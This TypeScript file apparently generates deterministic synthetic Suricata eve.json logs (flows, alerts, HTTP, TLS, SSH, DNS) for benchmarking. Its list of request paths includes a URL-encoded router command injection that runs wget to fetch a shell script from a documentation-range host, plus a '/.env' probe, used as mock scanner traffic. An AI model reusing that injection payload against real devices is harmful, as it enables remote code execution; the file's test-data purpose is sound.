import { closeSync, openSync, writeSync } from 'node:fs'
import { Random } from '../traffic/random.ts'

const START_MS = Date.UTC(2026, 10, 1)
const agents = ['curl/8.14.1', 'Mozilla/5.0 zgrab/0.x', 'Go-http-client/1.1', 'python-requests/2.32.3', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36', 'masscan/1.3']
const paths = ['/', '/login', '/boaform/admin/formLogin', '/cgi-bin/luci?x=%24%28wget%20http%3A%2F%2F203.0.113.9%2Fa.sh%29', '/.env', '/manager/html', '/robots.txt']
const signatures = ['EXAMPLE SCAN Suspicious inbound to port 3306', 'EXAMPLE DROP listed source group 12', 'EXAMPLE EXPLOIT router command injection', 'EXAMPLE SCAN potential SSH scan']

/** What one flow of a made-up Suricata says. */
class FlowStory {
  readonly #random: Random
  readonly #id: number
  readonly #src: string
  readonly #dst: string
  readonly #sport: number
  readonly #start_ms: number

  constructor(random: Random, n: number) {
    this.#random = random
    this.#id = 1_000_000_000_000 + n * 7919
    // The range for benchmarks (RFC 2544), and documentation addresses as our own.
    this.#src = `198.${18 + random.below(2)}.${random.below(256)}.${random.below(256)}`
    this.#dst = `192.0.2.${random.below(256)}`
    this.#sport = 1024 + random.below(64_000)
    this.#start_ms = START_MS + n * 3
  }

  #time(after_ms: number): string {
    return new Date(this.#start_ms + after_ms).toISOString().replace('Z', '123+0000')
  }

  #line(type: string, port: number, proto: string, rest: object, after_ms = 40): string {
    return JSON.stringify({
      timestamp: this.#time(after_ms), flow_id: this.#id, in_iface: 'eth0', event_type: type, src_ip: this.#src, src_port: this.#sport,
      dest_ip: this.#dst, dest_port: port, proto, ip_v: 4, pkt_src: 'wire/pcap', ...rest,
    })
  }

  #flow(port: number, proto: string, app: string | undefined, established: boolean): string {
    const [to, back] = established ? [6 + this.#random.below(9), 5 + this.#random.below(9)] : [1, this.#random.below(2)]
    const tcp = { tcp_flags: established ? '1b' : '16', tcp_flags_ts: established ? '1b' : '06', tcp_flags_tc: established ? '1b' : '12', syn: true, ack: established, psh: established, state: established ? 'closed' : 'syn_recv' }
    return this.#line('flow', port, proto, {
      ...(app === undefined ? {} : { app_proto: app }),
      flow: { pkts_toserver: to, pkts_toclient: back, bytes_toserver: to * 74, bytes_toclient: back * 60, start: this.#time(0), end: this.#time(900), age: 1, state: established ? 'closed' : 'new', reason: 'timeout', alerted: false },
      community_id: '1:AAAAAAAAAAAAAAAAAAAAAAAAAAA=', ...(proto === 'TCP' ? { tcp } : {}),
    }, 61_000)
  }

  #alert(port: number, app: string | undefined, more: object = {}): string {
    const n = this.#random.below(signatures.length)
    return this.#line('alert', port, 'TCP', {
      ...more, ...(app === undefined ? {} : { app_proto: app }), alert: { action: 'allowed', gid: 1, signature_id: 9_000_001 + n, rev: 3, signature: signatures[n], category: 'Attempted Information Leak', severity: 2, metadata: { affected_product: ['Any'], created_at: ['2026_01_01'], deployment: ['Perimeter'] } },
      direction: 'to_server', flow: { pkts_toserver: 3, pkts_toclient: 1, bytes_toserver: 222, bytes_toclient: 60, start: this.#time(0), src_ip: this.#src, dest_ip: this.#dst, src_port: this.#sport, dest_port: port },
    })
  }

  lines(): string[] {
    const kind = this.#random.below(100)
    if (kind < 45) return [this.#flow([23, 22, 445, 8080, 5555][this.#random.below(5)]!, 'TCP', undefined, false)]
    if (kind < 55) return [this.#alert(3306, undefined), this.#flow(3306, 'TCP', undefined, false)]
    if (kind < 70) return this.#http()
    if (kind < 80) {
      const tls = { sni: `host${this.#random.below(500)}.example`, version: 'TLS 1.3', ja3: { hash: '0123456789abcdef0123456789abcdef', string: '771,4865-4866,0-23,29-23,0' }, ja4: 't13d1516h2_8daaf6152771_e5627efa2ab1', client_alpns: ['h2', 'http/1.1'] }
      return [this.#line('tls', 443, 'TCP', { tls }), this.#flow(443, 'TCP', 'tls', true)]
    }
    if (kind < 90) {
      const hash = { hash: '16443846184eafde36765c9bab2f4397', string: 'curve25519-sha256,ecdh-sha2-nistp256' }
      return [this.#line('ssh', 22, 'TCP', { ssh: { client: { proto_version: '2.0', software_version: 'Go', hassh: hash }, server: { proto_version: '2.0', software_version: 'OpenSSH_9.9' } } }), this.#flow(22, 'TCP', 'ssh', true)]
    }
    const dns = { version: 3, type: 'request', tx_id: 0, id: this.#random.below(65_536), flags: '100', rd: true, opcode: 0, rcode: 'NOERROR', queries: [{ rrname: `n${this.#random.below(900)}.example`, rrtype: 'ANY' }] }
    return [this.#line('dns', 53, 'UDP', { tx_id: 0, dns }), this.#flow(53, 'UDP', 'dns', false)]
  }

  #http(): string[] {
    const http = { hostname: this.#dst, url: paths[this.#random.below(paths.length)], http_user_agent: agents[this.#random.below(agents.length)], http_content_type: 'text/html', http_method: 'GET', protocol: 'HTTP/1.1', status: 404, length: 162 }
    const fileinfo = { filename: '/', state: 'CLOSED', stored: false, size: 162, tx_id: 0 }
    const some = [this.#line('http', 80, 'TCP', { tx_id: 0, http }), this.#line('fileinfo', 80, 'TCP', { http, app_proto: 'http', fileinfo, direction: 'to_client' })]
    return [...some, ...(this.#random.below(4) === 0 ? [this.#alert(80, 'http', { http, payload: Buffer.from(`GET ${http.url} HTTP/1.1\r\n\r\n`).toString('base64') })] : []), this.#flow(80, 'TCP', 'http', true)]
  }
}

/** Writes at least `lines` lines of eve.json, the same for the same seed; gives how many, and how many flows. */
export function writeEve(path: string, lines: number, seed: number): { readonly lines: number; readonly flows: number } {
  const random = new Random(seed)
  const file = openSync(path, 'w')
  let written = 0
  let flows = 0
  let part: string[] = []
  while (written < lines) {
    const story = new FlowStory(random, flows++).lines()
    part.push(...story)
    written += story.length
    if (part.length < 10_000 && written < lines) continue
    writeSync(file, `${part.join('\n')}\n`)
    part = []
  }
  closeSync(file)
  return { lines: written, flows }
}
